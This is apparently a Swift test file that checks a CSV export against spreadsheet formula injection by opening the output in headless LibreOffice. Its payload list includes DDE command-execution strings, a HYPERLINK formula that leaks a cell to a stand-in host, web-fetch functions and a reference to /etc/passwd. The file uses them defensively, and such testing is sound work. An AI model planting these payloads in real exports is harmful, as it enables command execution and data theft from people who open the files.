import Foundation
import Support
import Templating
import Testing
import Workspace

@Suite("CSV for a spreadsheet")
struct SpreadsheetTests {
    /// What spreadsheets have been made to run, or to fetch.
    static let formulas = [
        "=1+1", "=1+1\"", "+1+1", "-1+1", "@SUM(1+1)", "=SUM(1;1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
        "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "=HYPERLINK(\"http://x.nl\";\"x\")",
        "=HYPERLINK(\"http://x.nl?leak=\"&A1;\"klik\")", "=WEBSERVICE(\"http://x.nl\")",
        "=IMPORTXML(\"http://x.nl\";\"//a\")",
        "=IMPORTDATA(\"http://x.nl\")", "=IMAGE(\"http://x.nl\")", "=INDIRECT(\"A1\")", "=NOW()", "=TODAY()",
        "=RAND()", "=A1", "=A1:B2", "=$A$1", "=Blad1.A1", "='file:///etc/passwd'#$passwd.A1", "=1/0", "=\"tekst\"",
        "=TRUE()", "=IF(1;2;3)", "={1;2}", "=1e3", "=(1)", "==1", "=+1", "=-1", "=@A1", "+A1", "-A1", "@A1",
        " =1+1", "\t=1+1", "\n=1+1", "\r=1+1", "\r\n=1+1", "\u{A0}=1+1", "\u{FEFF}=1+1", "＝1+1", "＋1+1", "－1+1", "＠A1",
        "\u{200B}=1+1", "|calc", "%calc", "=CONCATENATE(\"a\";\"b\")", "=CELL(\"filename\")", "=INFO(\"system\")",
        "=CALL(\"x\")", "=EXEC(\"calc\")", "-2+3+cmd|' /C calc'!D2", "+-1", "--1",
    ]

    @Test func `nothing is taken for a formula, and a number stays one, in LibreOffice`() throws {
        #expect(Self.formulas.count >= 60)
        let numbers = ["-12,5", "12,5", "-97", "0", "-0,001"]
        let ours = Spreadsheet.csv((Self.formulas + numbers).map { [$0] }, in: .dutch)
        let plain = Self.formulas.map { "\"\($0.replacing("\"", with: "\"\""))\"\r\n" }.joined()
        // As it would be without us: the judge sees formulas.
        #expect(try Self.opened(plain).components(separatedBy: "table:formula=").count > 20)
        let sheet = try Self.opened(ours)
        #expect(!sheet.contains("table:formula="))
        for value in ["-12.5", "12.5", "-97", "0", "-0.001"] {
            #expect(sheet.contains("office:value-type=\"float\" office:value=\"\(value)\""), "\(value)")
        }
        // And nothing else became a number, or a date.
        #expect(sheet.components(separatedBy: "office:value-type=\"float\"").count == numbers.count + 1)
        #expect(!sheet.contains("office:value-type=\"date\""))
    }

    /// As flat ODS, with Dutch settings and the formulas of the file evaluated.
    private static func opened(_ csv: String) throws -> String {
        let folder = try TestFolder()
        folder["blad.csv"] = csv
        try Program(
            "soffice", "-env:UserInstallation=file://\(folder.path("profile"))", "--headless",
            "--infilter=CSV:59,34,76,1,,1043,false,true,false,false,false,-1,true", "--convert-to", "fods", "--outdir",
            folder.path, folder.path("blad.csv")
        ).output()
        return folder["blad.fods"]
    }

    @Test(
        "It opens where it is read",
        arguments: [
            (Language.dutch, "\u{FEFF}\"a\";\"b \"\"c\"\"\"\r\n\"-12,5\";\"'-12.5\"\r\n"),
            (Language.english, "\u{FEFF}\"a\",\"b \"\"c\"\"\"\r\n\"'-12,5\",\"-12.5\"\r\n"),
        ])
    func language(language: Language, expected: String) {
        #expect(Spreadsheet.csv([["a", "b \"c\""], ["-12,5", "-12.5"]], in: language) == expected)
    }
}
